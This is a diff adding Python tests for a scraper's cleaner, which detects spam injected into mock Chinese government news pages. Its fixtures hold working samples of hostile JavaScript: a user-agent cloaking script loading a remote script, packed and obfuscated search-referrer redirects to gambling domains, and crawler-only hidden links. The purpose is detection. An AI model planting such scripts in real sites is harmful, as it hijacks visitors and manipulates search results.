@@ -1,0 +1,111 @@
+"""Injections caught by what they do, in words no list knows (issue 11 §1–3)."""
+from __future__ import annotations
+
+from scraper.clean import clean_page
+from tests.clean.conftest import everything, kinds
+from tests.clean.test_loaders import pack
+
+URL = "https://www.qingshan.gov.cn/info/2024/0316/2.htm"
+HEADLINE = "区政府召开城乡环境综合整治工作会议"
+BODY = ("<p>3月15日，区政府召开专题会议，研究部署今年城乡环境综合整治工作，区长主持会议并讲话。</p>"
+        "<p>会议指出，城乡环境综合整治是一项民心工程，各街道、各部门要对照任务清单，细化工作措施。</p>")
+
+
+def page(title: str = HEADLINE + "-青山区人民政府", head: str = "", body: str = BODY, top: str = "") -> bytes:
+    return (f'<html><head><meta charset="utf-8"><title>{title}</title>{head}</head><body>{top}'
+            f'<div class="header"><a href="/">首页</a> <a href="/xwzx/">新闻中心</a></div>'
+            f'<h1>{HEADLINE}</h1><div class="info">发布时间：2024-03-16 来源：区政府办公室</div>'
+            f'<div class="content">{body}</div>'
+            f'<div class="footer">主办单位：青山区人民政府 地址：青山区人民路1号</div></body></html>').encode()
+
+
+def test_cloaking_script_alone_with_a_title_in_words_no_list_knows():
+    # card and lottery game names that no lexicon holds: the script's behaviour gives it away
+    spam = "斗地主欢乐场_麻将来了_福运捕鱼大厅"
+    script = ('<script>var ua=navigator.userAgent.toLowerCase();'
+              'if(ua.indexOf("baiduspider")<0&&ua.indexOf("sogou")<0){document.title="' + HEADLINE + '";'
+              'document.write("<script src=\'https://cdn.fu-yun77.com/t.js\'></scr"+"ipt>")}</script>')
+    a = clean_page(page(title=spam, head=script), url=URL)
+    assert a.hijacked
+    assert {"js_cloak", "spam_title"} <= kinds(a)
+    assert a.title == HEADLINE
+    assert "斗地主" not in everything(a) and "捕鱼" not in everything(a)
+
+
+def test_packed_loader_that_redirects_search_visitors():
+    code = ('var r=document.referrer;if(/baidu|sogou|so\\.com/.test(r)){window.location.replace("https://ml-889.net/")}')
+    a = clean_page(page(head=f"<script>{pack(code)}</script>"), url=URL)
+    assert {"packed_script", "js_cloak", "js_redirect"} <= kinds(a)
+    assert any("ml-889.net" in f.evidence for f in a.findings if f.kind == "js_redirect")
+    assert a.text.startswith("3月15日，区政府召开专题会议")
+
+
+def test_bracket_form_redirect_with_a_string_array():
+    code = ("var _0xa=['referrer','indexOf','baidu','location','href','https://yl-377.cc/'];"
+            "if(document[_0xa[0]][_0xa[1]](_0xa[2])>-1){window[_0xa[3]][_0xa[4]]=_0xa[5]}")
+    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
+    assert "js_redirect" in kinds(a) and "obfuscated_script" in kinds(a)
+
+
+def test_document_written_links_of_a_cloaking_script_are_removed_page_wide():
+    script = ('<script>if(navigator.userAgent.indexOf("spider")>-1){document.write('
+              '\'<a href="https://hy-rr.com/">鸿运汇聚</a><a href="https://dx-ss.com/">鼎鑫盛世</a>\')}</script>')
+    body = BODY + "<p>鸿运汇聚，点击进入。</p>"
+    a = clean_page(page(head=script, body=body), url=URL)
+    assert "hidden_links" in kinds(a)
+    assert "鸿运汇聚" not in a.text
+
+
+def test_an_ordinary_ad_script_writing_off_site_links_is_no_injection():
+    script = ('<script>document.write(\'<a href="http://ad.doubleclick.net/jump/site;sz=300x250">'
+              '<img src="http://ad.doubleclick.net/ad/site.jpg"></a>\');</script>')
+    a = clean_page(page(head=script), url=URL)
+    assert not a.hijacked, a.findings
+
+
+def test_brand_in_no_list_with_promo_grammar_in_the_title():
+    a = clean_page(page(title="万象城体育官方入口-" + HEADLINE), url=URL)
+    assert a.title == HEADLINE
+    assert a.hijacked and "spam_title" in kinds(a)
+
+
+def test_brand_substituted_for_the_institution_in_sentences():
+    body = ("<p>4月28日，澳门盛世官方网站在博雅楼二楼会议室召开上半年工作会议。</p>"
+            "<p>会议由学院党委书记主持，各部门负责人参加。</p>")
+    a = clean_page(page(body=body), url=URL)
+    assert a.hijacked and "spliced_brand" in kinds(a)
+    assert "澳门盛世官方网站" not in a.text
+    assert "在博雅楼二楼会议室召开上半年工作会议" in a.text
+
+
+def test_brand_credit_and_keyword_line_in_the_body():
+    body = (BODY + "<p>会议要求，要加强督查考核。（鑫盛棋牌官网供稿）</p>"
+            "<p>斗牛棋牌 百家乐 时时彩 真人视讯 老虎机 捕鱼</p>")
+    a = clean_page(page(body=body), url=URL)
+    assert {"spliced_brand", "spam_text"} <= kinds(a)
+    assert "鑫盛棋牌" not in a.text and "百家乐" not in a.text
+    assert "区长主持会议并讲话" in a.text and "会议要求，要加强督查考核。" in a.text
+
+
+def test_noise_symbols_between_characters():
+    body = "<p>为做好本学期末▼各项学生工作，确保学生∩管理平稳、有序，学院召开学生工★作例会。</p>"
+    a = clean_page(page(body=body), url=URL)
+    assert "symbol_noise" in kinds(a)
+    assert "为做好本学期末各项学生工作，确保学生管理平稳、有序，学院召开学生工作例会。" in a.text
+
+
+def test_strongly_hidden_text_that_is_no_spam_is_recorded_without_a_hijack():
+    body = BODY + '<div style="position:absolute;left:-9999px">跳转到主要内容区域</div>'
+    a = clean_page(page(body=body), url=URL)
+    assert not a.hijacked
+    assert [f.kind for f in a.findings] == ["hidden_block"]
+    assert "跳转到主要内容" in a.findings[0].evidence and "跳转到主要内容" not in a.text
+
+
+def test_parasite_page_on_a_trusted_portal_is_recorded_with_its_full_url():
+    links = ('<div class="links">友情链接：<a href="http://www.gz.gov.cn/">广州市人民政府</a> '
+             '<a href="https://news.sina.com.cn/tiyu/kaiyun-app.html">开元棋牌官网下载</a></div>')
+    a = clean_page(page(body=BODY + links), url=URL)
+    spam = [f for f in a.findings if f.kind == "spam_link"]
+    assert spam and "https://news.sina.com.cn/tiyu/kaiyun-app.html" in spam[0].evidence
+    assert "广州市人民政府" in everything(a) or not any("gz.gov.cn" in f.evidence for f in a.findings)
